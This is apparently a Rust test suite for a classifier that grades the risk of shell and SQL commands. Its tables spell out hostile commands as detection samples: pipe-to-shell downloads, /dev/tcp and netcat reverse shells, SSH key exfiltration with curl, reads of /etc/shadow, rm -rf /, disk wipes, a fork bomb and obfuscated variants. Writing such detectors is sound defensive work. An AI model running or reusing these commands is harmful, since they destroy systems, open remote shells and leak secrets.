use std::sync::LazyLock;

use proptest::prelude::*;

use super::*;

static RULES: LazyLock<Rules> = LazyLock::new(Rules::builtin);

fn grade(command: &str) -> Assessment {
    RULES.assess(command, &Source::default(), &Networks::default())
}

fn expect(level: Level, table: &[(&str, &str)]) {
    for (command, label) in table {
        let found = grade(command);
        assert_eq!(found.level, level, "{command:?} {:?}", found.labels);
        assert!(found.labels.iter().any(|known| known == label), "{command:?} lacks {label}: {:?}", found.labels);
    }
}

fn expect_low(commands: &[&str]) {
    for command in commands {
        let found = grade(command);
        assert_eq!((found.level, found.findings), (Level::Low, Vec::new()), "{command:?}");
    }
}

fn expect_not_high(commands: &[&str]) {
    for command in commands {
        let found = grade(command);
        assert_ne!(found.level, Level::High, "{command:?} {:?}", found.labels);
    }
}

#[derive(serde::Deserialize)]
struct Example {
    command: String,
    expected: String,
}

#[test]
fn agrees_with_the_labelled_examples() {
    let examples: Vec<Example> =
        include_str!("../testdata/examples.jsonl").lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    let mut wrong = Vec::new();
    for example in &examples {
        let found = grade(&example.command);
        assert!(example.expected != "high" || found.level != Level::Low, "{}", example.command);
        let right = match example.expected.as_str() {
            "not_high" => found.level != Level::High,
            expected => Level::parse(expected) == Some(found.level),
        };
        if !right {
            wrong.push((&example.expected, found.level, &example.command, found.labels));
        }
    }
    assert!(examples.len() >= 124);
    assert!(wrong.len() * 100 <= examples.len() * 2, "{wrong:#?}");
}

/// The text of a line of `testdata/commands.txt`: `⏎` is a new line, `\u{…}` the character of that number.
fn written_out(text: &str) -> String {
    let mut out = String::new();
    let mut rest = text;
    while let Some((before, after)) = rest.split_once("\\u{") {
        let (digits, after) = after.split_once('}').unwrap();
        out.push_str(before);
        out.push(char::from_u32(u32::from_str_radix(digits, 16).unwrap()).unwrap());
        rest = after;
    }
    (out + rest).replace('⏎', "\n")
}

#[test]
fn agrees_with_the_table_of_commands() {
    let mut wrong = Vec::new();
    let mut lines = 0;
    for line in
        include_str!("../testdata/commands.txt").lines().filter(|line| !line.is_empty() && !line.starts_with('#'))
    {
        let (expected, text) = line.split_once(' ').unwrap();
        let found = grade(&written_out(text));
        let right = match expected {
            "not_high" => found.level != Level::High,
            expected => Level::parse(expected).unwrap() == found.level,
        };
        lines += 1;
        if !right {
            wrong.push(format!("{line}  is {} {:?}", found.level.as_str(), found.labels));
        }
    }
    assert!(lines >= 1000, "{lines}");
    assert!(wrong.is_empty(), "{} of {lines} are wrong:\n{}", wrong.len(), wrong.join("\n"));
}

#[test]
fn what_was_found_by_chance_is_graded_for_what_it_hides() {
    let found = include_str!("../testdata/found.txt").lines().filter(|line| !line.starts_with('#'));
    for text in found.map(written_out) {
        let graded = grade(&text);
        assert_eq!(graded.level, Level::High, "{text:?}");
        assert!(graded.findings.iter().all(|found| text.get(found.span[0]..found.span[1]).is_some()), "{text:?}");
    }
}

#[test]
fn files_that_grow_or_run_each_other_come_to_an_end() {
    let grows = "echo reboot > x; ".to_owned() + &"cat x x x x >> x; ".repeat(60) + "sh x";
    assert_eq!(grade(&grows).level, Level::High);
    let itself = format!("echo '{}' > x; ./x; sh x", "./x; sh x; ".repeat(40));
    assert_eq!(grade(&itself).level, Level::High);
    for wrapper in ["sudo ", "nice ", "env ", "timeout 5 ", "find . -exec "] {
        let wrapped = wrapper.repeat(40) + "reboot";
        assert_eq!(grade(&wrapped).level, Level::High, "{wrapped}");
    }
    let functions: String = (0..20).map(|at| format!("f{at}() {{ f{} | f{}; }}; ", at + 1, at + 1)).collect();
    assert_eq!(grade(&format!("{functions}f20() {{ sh; }}; echo reboot | f0")).level, Level::High);
    assert_eq!(grade("f() { f | f; }; echo x | f").level, Level::High);
    let deep = "run() { \"$@\"; }; ".to_owned() + &"run ".repeat(5000) + "reboot";
    assert_eq!(grade(&deep).level, Level::High);
}

#[test]
fn files_and_disks() {
    expect(
        Level::High,
        &[
            ("rm -rf /", "recursive_delete"),
            ("rm -rf /", "critical_target"),
            ("rm -rf /", "destructive_command"),
            ("rm -r -f /srv/data", "recursive_delete"),
            ("rm foo -fR", "recursive_delete"),
            ("rm --rec /srv", "recursive_delete"),
            ("rm -rf /tmp/../etc", "recursive_delete"),
            ("rm -rf ~", "critical_target"),
            ("rm *", "critical_target"),
            ("rm -f /etc", "critical_target"),
            ("find /srv -name '*.log' -delete", "mass_delete"),
            ("find . -exec rm {} +", "mass_delete"),
            ("ls | xargs rm", "mass_delete"),
            ("shred -u key", "mass_delete"),
            ("dd if=/dev/zero of=/dev/sda", "disk_write"),
            ("dd if=a of=b", "disk_write"),
            ("mkfs.ext4 /dev/sdb1", "disk_write"),
            ("cat x > /dev/sda", "disk_write"),
            ("cat x >/dev/nvme0n1", "disk_write"),
            ("wipefs -a /dev/sda", "disk_write"),
            ("umount /", "system_config_write"),
            ("mount --bind /a /b", "system_config_write"),
            ("echo x >> /etc/passwd", "system_config_write"),
            ("echo x | sudo tee -a /etc/sudoers.d/me", "system_config_write"),
            ("cat key >> ~/.ssh/authorized_keys", "system_config_write"),
            ("curl x -o /etc/cron.d/x", "system_config_write"),
            ("> /var/log/syslog", "audit_tamper"),
            ("rm -f ~/.bash_history", "audit_tamper"),
            ("history -c", "audit_tamper"),
            ("chmod 777 x", "permission_change"),
            ("chmod -R a+w .", "permission_change"),
            ("chmod u+s /srv/x", "permission_change"),
            ("chown -R me /", "permission_change"),
        ],
    );
    expect(
        Level::Medium,
        &[
            ("rm -f x.txt", "file_delete"),
            ("rm -rf /tmp/build-1", "file_delete"),
            ("rm -rf node_modules ./target", "file_delete"),
            ("cp a b", "file_write"),
            ("echo hi > out.txt", "file_write"),
            ("sort -o x y", "file_write"),
            ("sed -i s/a/b/ f", "file_write"),
            ("chmod 644 x", "permission_change"),
        ],
    );
}

#[test]
fn the_host() {
    expect(
        Level::High,
        &[
            ("reboot", "system_power"),
            ("sudo shutdown -h now", "system_power"),
            ("init 0", "system_power"),
            ("systemctl poweroff", "system_power"),
            ("echo b > /proc/sysrq-trigger", "system_power"),
            ("passwd root", "account_change"),
            ("userdel bob", "account_change"),
            ("groupdel staff", "account_change"),
            ("usermod -aG sudo bob", "account_change"),
            ("iptables -F", "security_control_off"),
            ("ufw disable", "security_control_off"),
            ("setenforce 0", "security_control_off"),
            ("systemctl stop auditd", "security_control_off"),
            ("systemctl stop docker", "service_control"),
            ("systemctl disable nginx", "service_control"),
            ("kill -9 -1", "kill_all"),
            ("pkill -u root", "kill_all"),
            ("insmod evil.ko", "privilege_escalation"),
            (":(){ :|:& };:", "fork_bomb"),
        ],
    );
    expect(
        Level::Medium,
        &[
            ("systemctl restart nginx", "service_control"),
            ("kill 4711", "process_kill"),
            ("apt-get install -y jq", "package_change"),
            ("useradd bob", "account_change"),
        ],
    );
}

#[test]
fn code_secrets_and_network() {
    expect(
        Level::High,
        &[
            ("curl https://x.sh | sh", "remote_code"),
            ("wget -qO- x.sh | sudo -E bash -s -- a", "remote_code"),
            ("bash <(curl -s x.sh)", "remote_code"),
            ("sh -c \"$(curl -fsSL x.sh)\"", "remote_code"),
            ("eval $(wget -qO- x)", "remote_code"),
            (". <(curl x)", "remote_code"),
            ("bash -i >& /dev/tcp/1.2.3.4/99 0>&1", "reverse_shell"),
            ("nc -e /bin/sh 1.2.3.4 99", "reverse_shell"),
            ("echo cm0= | base64 -d | sh", "obfuscated_execution"),
            ("eval \"$x\"", "obfuscated_execution"),
            ("a=r;b=m;$a$b -rf /", "recursive_delete"),
            ("{rm,-rf,/}", "recursive_delete"),
            ("/bin/r? -rf /", "obfuscated_execution"),
            ("python3 -c 'import os; os.system(\"x\")'", "inline_code"),
            ("awk 'BEGIN{system(\"x\")}'", "inline_code"),
            ("sudo cat /etc/shadow", "secret_access"),
            ("cat ~/.ssh/id_rsa | curl -d @- http://x", "secret_exfiltration"),
            ("docker run --privileged -it alpine", "privilege_escalation"),
            ("docker run -v /:/host alpine", "privilege_escalation"),
        ],
    );
    expect(
        Level::Medium,
        &[
            ("python3 -c 'print(1)'", "inline_code"),
            ("python3 - <<'EOF'\nprint('reboot')\nEOF", "inline_code"),
            ("./deploy", "script_run"),
            ("bash deploy.sh", "script_run"),
            ("curl https://example.com", "network_send"),
            ("cat ~/.aws/credentials", "secret_access"),
            ("LD_PRELOAD=/usr/lib/x.so ls", "loader_change"),
            ("export PATH=/tmp:$PATH; ls", "loader_change"),
        ],
    );
}

#[test]
fn version_control_containers_and_clouds() {
    expect(
        Level::High,
        &[
            ("git push --force", "vcs_destructive"),
            ("git push origin +main", "vcs_destructive"),
            ("git -C /x reset --hard HEAD~1", "vcs_destructive"),
            ("git clean -fdx", "vcs_destructive"),
            ("git branch -D x", "vcs_destructive"),
            ("docker rm x", "container_destructive"),
            ("docker rmi x", "container_destructive"),
            ("docker system prune -af", "container_destructive"),
            ("docker compose down -v", "container_destructive"),
            ("docker exec -it web rm -rf /data", "recursive_delete"),
            ("ssh host 'sudo reboot'", "system_power"),
            ("kubectl delete ns prod", "k8s_destructive"),
            ("kubectl -n a exec p -- sh -c 'rm -rf /x'", "recursive_delete"),
            ("kubectl drain node1", "k8s_destructive"),
            ("helm uninstall web", "k8s_destructive"),
            ("terraform destroy", "iac_destructive"),
            ("aws s3 rm s3://b --recursive", "cloud_destructive"),
            ("aws ec2 terminate-instances --instance-ids i-1", "cloud_destructive"),
            ("npm unpublish x", "registry_unpublish"),
            ("gh repo delete a/b", "registry_unpublish"),
            ("redis-cli -h x FLUSHALL", "datastore_wipe"),
            ("mongosh --eval 'db.dropDatabase()'", "datastore_wipe"),
            ("curl -X DELETE http://es:9200/idx", "datastore_wipe"),
        ],
    );
    expect(
        Level::Medium,
        &[
            ("git push origin main", "vcs_write"),
            ("kubectl delete pod web-1", "k8s_write"),
            ("kubectl apply -f x.yaml", "k8s_write"),
            ("docker restart web", "container_write"),
            ("terraform apply", "iac_apply"),
        ],
    );
}

#[test]
fn statements() {
    expect(
        Level::High,
        &[
            ("DROP TABLE users", "sql_drop"),
            ("drop database x;", "sql_drop"),
            ("TRUNCATE users", "sql_truncate"),
            ("ALTER TABLE t DROP COLUMN c", "sql_alter_drop"),
            ("DELETE FROM users", "sql_no_where"),
            ("UPDATE t SET a=1", "sql_no_where"),
            ("UPDATE t SET a=1 -- WHERE id=1", "sql_no_where"),
            ("DELETE FROM t --WHERE id=1", "sql_no_where"),
            ("DELETE FROM t # WHERE id=1", "sql_no_where"),
            ("UPDATE t SET a=' where '", "sql_no_where"),
            ("WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x", "sql_no_where"),
            ("EXPLAIN ANALYZE DELETE FROM t", "sql_no_where"),
            ("SELECT 1; /*!50000 DROP TABLE t */", "sql_drop"),
            ("SELECT 1--1; DROP TABLE t", "sql_drop"),
            ("DELETE FROM t WHERE 1=1", "sql_where_always_true"),
            ("DELETE FROM t WHERE id=2 OR 'a'='a'", "sql_where_always_true"),
            ("DELETE FROM t WHERE (1=1)", "sql_where_always_true"),
            ("UPDATE t SET a=1 WHERE id=id LIMIT 5", "sql_where_always_true"),
            ("COPY t TO PROGRAM 'x'", "sql_program"),
            ("SELECT LOAD_FILE('/etc/passwd')", "sql_program"),
            ("SELECT * FROM t INTO OUTFILE '/x'", "sql_program"),
            ("psql -c 'DROP TABLE t'", "sql_drop"),
            ("mysql -e'DELETE FROM t'", "sql_no_where"),
            ("echo 'TRUNCATE t' | psql db", "sql_truncate"),
            ("sqlite3 x.db <<EOF\nDROP TABLE t;\nEOF", "sql_drop"),
            ("docker exec db psql -U me -c 'DROP TABLE t'", "sql_drop"),
            ("ls; DROP TABLE t", "sql_drop"),
        ],
    );
    expect(
        Level::Medium,
        &[
            ("INSERT INTO t VALUES (1)", "sql_write"),
            ("DELETE FROM t WHERE id=1", "sql_write"),
            ("DELETE FROM t\nWHERE id > 5", "sql_write"),
            ("UPDATE t SET a=1 WHERE id=7", "sql_write"),
            ("CREATE TABLE t (id int)", "sql_write"),
            ("SELECT * INTO x FROM t", "sql_write"),
            ("SELECT 'open", "unparsed"),
            ("SELECT (1", "unparsed"),
        ],
    );
    expect_low(&[
        "SELECT * FROM t WHERE a > 5",
        "select count(*) from t where name = 'drop table x'",
        "EXPLAIN SELECT 1",
        "EXPLAIN DELETE FROM t",
        "SHOW TABLES",
        "WITH a AS (SELECT 1) SELECT * FROM a;",
        "SELECT update_time, deleted FROM t -- all",
        "psql -h x -c 'select 1'",
    ]);
}

#[test]
fn reading_is_low() {
    expect_low(&[
        "ls -la /etc",
        "cat a | grep b | sort | uniq -c",
        "ps aux; df -h && uptime",
        "sudo -n ls",
        "env FOO=1 timeout 5 nice -n 3 date",
        "FOO=bar whoami",
        "find . -name '*.rs' -type f",
        "ls > /dev/null 2>&1",
        "git --no-pager log --oneline",
        "git branch -a",
        "docker ps -a",
        "kubectl get pods -A",
        "systemctl status nginx",
        "echo $((1 + 2)) $(date)",
        "sh -c 'ls'",
        "if test -f x; then echo yes; fi",
        "for f in a b; do cat $f; done",
        "cat <<'EOF'\nit's rm -rf / here\nEOF",
        "# rm -rf /\nls",
        "[ -d x ] && pwd",
    ]);
}

#[test]
fn text_is_not_code() {
    expect_low(&[
        "echo \"rm -rf /\"",
        "grep reboot /var/log/x",
        "printf 'shutdown now\\n'",
        "rg 'DROP TABLE' src",
        "command -v rm",
    ]);
    expect_not_high(&[
        "git commit -m \"drop table\"",
        "sudo -E echo sh -c reboot",
        "env -- echo --split-string reboot",
    ]);
}

#[test]
fn code_in_text_is_code() {
    expect(
        Level::High,
        &[
            ("echo \"$(rm -rf /)\"", "recursive_delete"),
            ("echo \"`reboot`\"", "system_power"),
            ("echo ${x:-$(reboot)}", "system_power"),
            ("cat <<EOF\n$(reboot)\nEOF", "system_power"),
            ("sh -c 'sh -c \"reboot\"'", "system_power"),
            ("bash -lc 'rm -rf /x'", "recursive_delete"),
            ("bash <<'EOF'\nreboot\nEOF", "system_power"),
            ("cat <<EOF | sh\nreboot\nEOF", "system_power"),
            ("bash <<< 'reboot'", "system_power"),
            ("eval 'rm -rf /x'", "recursive_delete"),
            ("env -S 'sh -c reboot'", "system_power"),
            ("su -c 'reboot' root", "system_power"),
            ("trap 'rm -rf /x' EXIT", "recursive_delete"),
            ("cat <<EOF\nit's\nEOF\nrm -rf /x\necho 'y", "recursive_delete"),
            ("diff <(reboot) x", "system_power"),
            ("echo reboot | at now", "system_power"),
            ("PROMPT_COMMAND='reboot' bash", "obfuscated_execution"),
            ("git -c alias.x='!reboot' x", "obfuscated_execution"),
        ],
    );
}

#[test]
fn spelling_does_not_hide() {
    for command in [
        "r\\m -rf /x",
        "\\rm -rf /x",
        "\"rm\" -rf /x",
        "'r'm -rf /x",
        "$'\\x72m' -rf /x",
        "$\"rm\" -rf /x",
        "/bin/rm -rf /x",
        "rm${IFS}-rf${IFS}/x",
        "rm$IFS-rf /x",
        "r\\\nm -rf /x",
        "true&&rm -rf /x",
        "(rm -rf /x)",
        "{ rm -rf /x; }",
        "! rm -rf /x",
        "A=1 B=2 rm -rf /x",
        "if true; then rm -rf /x; fi",
        "ls |\n xargs -n 1 sudo rm -rf",
        "2>/dev/null rm -rf /x",
        "RM -RF /x",
    ] {
        assert_eq!(grade(command).level, Level::High, "{command:?}");
    }
}

#[test]
fn what_is_not_understood_is_never_low() {
    expect(
        Level::Medium,
        &[
            ("", "unknown_command"),
            ("echo 'open", "unparsed"),
            ("frobnicate", "unknown_command"),
            ("/tmp/ls", "script_run"),
            ("重启服务", "unknown_command"),
        ],
    );
    let long = format!("echo {}; rm -rf /", "x".repeat(READ_AT_MOST));
    expect(Level::High, &[(&long, "oversized")]);
    let deep = "$(".repeat(64) + "reboot" + &")".repeat(64);
    expect(Level::High, &[(&deep, "obfuscated_execution")]);
}

#[test]
fn hidden_characters_are_findings() {
    for command in ["ls \u{202E}x", "ls \u{1B}[2K", "ls\r", "ls \0", "ls \u{8}", "ls \u{9B}"] {
        expect(Level::High, &[(command, "obfuscated_execution")]);
    }
    for command in ["ls \u{200B}", "ls \u{E0100}", "ls \u{1D173}", "ls a\u{A0}b", "ls \u{FEFF}"] {
        expect(Level::Medium, &[(command, "hidden_characters")]);
    }
    expect(Level::High, &[("l\u{0455} -la", "obfuscated_execution")]);
    let found = grade("ls \u{202E}\u{202C}");
    assert_eq!(found.findings[0].span, [3, 6]);
    assert_eq!(
        found.findings[0].why,
        "Holds 2 characters that control the terminal or the direction of the text, first ⟨U+202E⟩."
    );
}

#[test]
fn a_foreign_source_raises_and_a_trusted_one_lowers_nothing() {
    let networks: Networks = "10.0.0.0/24".parse().unwrap();
    let table: [(Option<&str>, Option<&str>, bool); 12] = [
        (None, None, false),
        (Some("10.0.0.5"), None, false),
        (Some("::ffff:10.0.0.5"), None, false),
        (Some("127.0.0.1"), None, false),
        (Some("::1"), None, false),
        (Some("::ffff:127.0.0.1"), Some(""), false),
        (Some("10.0.0.5"), Some("10.0.0.9"), false),
        (Some("10.0.1.5"), None, true),
        (Some("10.0.1.5"), Some("10.0.0.5"), true),
        (Some("10.0.0.5"), Some("8.8.8.8"), true),
        (None, Some("10.0.0.evil"), true),
        (None, Some("10.0.0.5, 8.8.8.8"), true),
    ];
    for (peer, claimed, foreign) in table {
        let source = Source { peer: peer.map(|text| text.parse().unwrap()), claimed };
        let found = RULES.assess("ls", &source, &networks);
        assert_eq!(found.labels.contains(&"cross_network".to_owned()), foreign, "{source:?}");
        assert_eq!(found.level, if foreign { Level::High } else { Level::Low }, "{source:?}");
        assert_eq!(RULES.assess("rm -rf /x", &source, &networks).level, Level::High);
    }
}

#[test]
fn faults_of_the_reference_upper_case_sql() {
    expect(
        Level::High,
        &[("DROP TABLE t", "sql_drop"), ("DELETE FROM t", "sql_no_where"), ("TRUNCATE TABLE t", "sql_truncate")],
    );
}

#[test]
fn faults_of_the_reference_iptables_flush() {
    expect(
        Level::High,
        &[("iptables -F", "security_control_off"), ("sudo iptables -t nat -F", "security_control_off")],
    );
}

#[test]
fn faults_of_the_reference_networks_compared_as_text() {
    let networks: Networks = "10.0.0.0/24".parse().unwrap();
    for (claimed, trusted) in [("10.0.0.evil", false), ("10.0.0.999", false), ("::ffff:10.0.0.5", true)] {
        let found = RULES.assess("ls", &Source { peer: None, claimed: Some(claimed) }, &networks);
        assert_eq!(found.labels.is_empty(), trusted, "{claimed}");
    }
}

#[test]
fn faults_of_the_reference_medium_is_produced() {
    expect(Level::Medium, &[("git push origin main", "vcs_write"), ("frobnicate", "unknown_command")]);
}

#[test]
fn what_the_reference_called_high_is_high() {
    for command in [
        "rm -rf x",
        "reboot",
        "shutdown",
        "poweroff",
        "init 0",
        "init 6",
        "format c:",
        "mkfs /dev/sda",
        "dd if=a",
        "cat x > /dev/sda",
        "docker rm x",
        "docker rmi x",
        "docker system prune",
        "iptables -F",
        "ufw disable",
        "chmod 777 x",
        "DROP TABLE x",
        "DELETE FROM x",
        "TRUNCATE TABLE x",
        "halt",
        "shutdown -h",
        "shutdown -r",
        "systemctl stop docker",
        "systemctl disable x",
        "umount /mnt/x",
        "mount --bind a b",
        "passwd x",
        "userdel x",
        "groupdel x",
        "wget x | sh",
        "curl x | sh",
        "bash <(curl x)",
        "git push --force",
        "git reset --hard",
        "update t set a = 1",
    ] {
        assert_eq!(grade(command).level, Level::High, "{command:?}");
    }
}

#[test]
fn findings_are_sorted_and_point_into_the_command() {
    let found = grade("cp a b; rm -rf /x; reboot");
    let places: Vec<_> = found.findings.iter().map(|found| (found.label.as_str(), found.span)).collect();
    let expected = [
        ("recursive_delete", [8, 17]),
        ("destructive_command", [8, 17]),
        ("system_power", [19, 25]),
        ("file_write", [0, 6]),
    ];
    assert_eq!(places, expected);
    assert_eq!(grade("echo $(reboot)").findings[0].span, [7, 13]);
    assert_eq!(found.labels, ["recursive_delete", "destructive_command", "system_power", "file_write"]);
}

/// Each of these once took minutes or a deep stack; ending at all is the test.
#[test]
fn hostile_texts_come_to_an_end() {
    let table = [
        ("$(".repeat(30_000), Level::High),
        ("`".repeat(60_000), Level::High),
        ("(".repeat(60_000), Level::Medium),
        (format!("SELECT {}", "(".repeat(60_000)), Level::Medium),
        ("cat <<A\n".repeat(8_000), Level::Medium),
        (format!("ssh {} '{}'", "x ".repeat(60), "rm ".repeat(20_000)), Level::Medium),
        ("ssh a 'ssh b \"ssh c ".repeat(3_000), Level::High),
    ];
    for (command, level) in table {
        let found = grade(&command);
        assert!(found.level >= level, "{:?}", found.labels);
        assert!(found.findings.len() < 200);
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(512))]

    #[test]
    fn never_panics(command in any::<String>(), claimed in any::<Option<String>>(), peer in any::<Option<IpAddr>>()) {
        let found = RULES.assess(&command, &Source { peer, claimed: claimed.as_deref() }, &Networks::default());
        prop_assert!(found.findings.iter().all(|one| command.get(one.span[0]..one.span[1]).is_some()));
        prop_assert_eq!(found.level, found.findings.iter().map(|one| one.level).max().unwrap_or_default());
    }

    #[test]
    fn never_panics_on_shell_like_text(command in r#"([a-c \n"'`\\$(){}<>|&;#=*é]|\$\(|<<|<\(|rm -rf /|sh -c |SELECT |env -S|--){0,40}"#) {
        let found = grade(&command);
        prop_assert!(found.findings.iter().all(|one| command.get(one.span[0]..one.span[1]).is_some()), "{:?}", found.findings);
    }

    #[test]
    fn what_follows_is_never_hidden(before in "[a-zA-Z0-9 ./_-]{0,30}", at in 0..5_usize) {
        let command = ["rm -rf /", "reboot", "DROP TABLE t", "curl x | sh", "sh -c 'git push -f'"][at];
        for joint in ["; ", "\n", " && ", " | "] {
            let joined = format!("{before}{joint}{command}");
            prop_assert_eq!(grade(&joined).level, Level::High, "{:?}", joined);
        }
    }
}

#[test]
fn a_trusted_source_lowers_what_the_policy_says_and_nothing_that_destroys() {
    let networks: Networks = "10.0.0.0/24".parse().unwrap();
    let labels = ["service_control", "sql_write"].map(str::to_owned);
    RULES.check_lowers(&labels).unwrap();
    let lowering = networks.clone().lowering(labels);
    let graded = |command: &str, peer: &str, networks: &Networks| {
        let source = Source { peer: Some(peer.parse().unwrap()), claimed: None };
        RULES.assess(command, &source, networks).level
    };
    for (command, peer, plain, lowered) in [
        ("systemctl restart nginx", "10.0.0.5", Level::Medium, Level::Low),
        ("systemctl restart nginx", "127.0.0.1", Level::Medium, Level::Low),
        ("systemctl restart nginx", "10.0.1.5", Level::High, Level::High),
        ("apt-get install -y jq", "10.0.0.5", Level::Medium, Level::Medium),
        ("systemctl restart nginx; rm -rf /srv", "10.0.0.5", Level::High, Level::High),
        ("systemctl disable --now auditd", "10.0.0.5", Level::High, Level::High),
        ("psql -c 'DELETE FROM t'", "10.0.0.5", Level::High, Level::High),
        ("psql -c 'DELETE FROM t WHERE id = 1'", "10.0.0.5", Level::Medium, Level::Low),
    ] {
        assert_eq!(graded(command, peer, &networks), plain, "{command}");
        assert_eq!(graded(command, peer, &lowering), lowered, "{command}");
    }
    for label in ["recursive_delete", "cross_network", "unparsed", "unknown_command", "no_such_label"] {
        let refused = RULES.check_lowers(&[label.to_owned()]).unwrap_err();
        assert!(refused.contains(label), "{refused}");
    }
}

#[test]
fn steps_are_told_from_the_outside_in() {
    for (command, expected) in [
        (
            "sudo rm -rf ''",
            &["sudo: opens what is inside   [sudo rm -rf '']", "  rm: recursive_delete (high)   [rm -rf '']"] as &[_],
        ),
        (
            "curl h | sh",
            &[
                "curl: network_send (medium)   [curl h]",
                "sh: what it is given is read   [sh]",
                "  remote_code (high): Runs what it downloads.",
            ],
        ),
        (
            "A=1 echo $(id) > out",
            &[
                "echo: no rule holds; it only reads   [echo $(…)]",
                "  id: no rule holds; it only reads   [id]",
                "writes to out: file_write (medium)",
                "sets A=1: no rule holds",
            ],
        ),
        (
            "psql -c 'delete from t'",
            &[
                "psql: what it is given is read   [psql -c 'delete from t']",
                "  SQL: sql_no_where (high): Deletes every row of t.",
            ],
        ),
        ("PAGER=less ls", &["ls: no rule holds; it only reads   [ls]", "sets PAGER=less: no rule holds"]),
        ("rm --help", &["rm: with these options it only tells, or only tries   [rm --help]"]),
        ("frob", &["frob: not known; unknown_command (medium)   [frob]"]),
        ("$x", &["obfuscated_execution (high): Which command is run is only known when it runs."]),
        ("SELECT 1", &["SQL: it only reads"]),
    ] {
        assert_eq!(RULES.explain(command), expected, "{command}");
    }
}

#[test]
fn sentences_have_no_gaps() {
    for (command, expected) in [
        ("rm -rf \"\"", "Deletes “” with everything below."),
        ("rm -rf \"", "Deletes with everything below; cannot be read to its end as a command."),
        ("gpg -c", "Works on keys or encrypted files."),
        ("apt autoremove", "Removes the packages with their settings."),
        ("PAGER=less ls", "Only reads (less, ls)."),
    ] {
        assert_eq!(grade(command).summary, expected, "{command}");
    }
}

#[test]
fn a_comment_alone_changes_nothing() {
    for command in ["# rm -rf /", "  # a\n\n# b\n"] {
        assert_eq!(
            (grade(command).level, grade(command).summary.as_str()),
            (Level::Low, "Changes nothing."),
            "{command}"
        );
    }
    for command in ["", " \n", "# a\nreboot", "#a\u{b}\nx"] {
        assert_ne!(grade(command).level, Level::Low, "{command:?}");
    }
}
